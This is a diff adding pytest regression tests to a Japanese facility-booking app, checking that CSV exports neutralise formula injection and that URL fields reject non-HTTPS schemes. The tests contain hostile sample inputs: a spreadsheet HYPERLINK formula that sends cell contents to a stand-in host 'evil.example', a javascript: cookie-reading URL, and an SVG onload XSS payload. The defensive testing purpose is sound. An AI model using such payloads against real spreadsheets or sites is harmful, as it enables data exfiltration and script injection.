@@ -3,6 +3,8 @@ calendar and its CSV import, the facility CSV export, holidays; precise Japanese
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import date
 
 import pytest
@@ -161,3 +163,30 @@ async def test_staff_changes_reach_a_cached_catalogue(api) -> None:
     assert [s.label for s in await svc.available_frames(unit, date(2026, 12, 5))] == ["早朝"]  # unit frames win
     r = await client.patch(f"/units/{unit}", json={"name": "半面A（北）"}, headers=MANAGER)
     assert [u.unit_name for u in await svc.find_units("北")] == ["半面A（北）"]
+
+
+async def test_facility_csv_export_neutralises_formulas(api) -> None:
+    """facilities.csv used to pass ``=HYPERLINK(...)`` straight to Excel."""
+    client, town, _ = api
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"詳細")'
+    r = await client.patch(f"/facilities/{town.facilities['gym']}", json={"name": evil, "description": "＠SUM(1)"},
+                           headers=MANAGER)
+    assert r.status == 200
+    for path in ("/facilities.csv", "/facility-units.csv"):
+        text = (await (await client.get(path, headers=VIEWER)).text())[1:]
+        cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
+        assert "'" + evil in cells
+        assert not [c for c in cells if c and c[0] in "=+@＝＋＠"], path
+
+
+@pytest.mark.parametrize("url", ["javascript:alert(document.cookie)", "data:image/svg+xml,<svg onload=alert(1)>",
+                                 "http://example.jp/thumb.png"])
+async def test_thumbnail_and_guide_urls_must_be_https(api, url: str) -> None:
+    client, town, _ = api
+    for key in ("thumbnail_url", "guide_url"):
+        r = await client.patch(f"/facilities/{town.facilities['gym']}", json={key: url}, headers=MANAGER)
+        err = (await r.json())["error"]
+        assert r.status == 422 and err["field"] == key and "https://" in err["message"]
+    r = await client.patch(f"/facilities/{town.facilities['gym']}", json={"guide_url": "https://example.jp/gym"},
+                           headers=MANAGER)
+    assert r.status == 200 and (await r.json())["guide_url"] == "https://example.jp/gym"
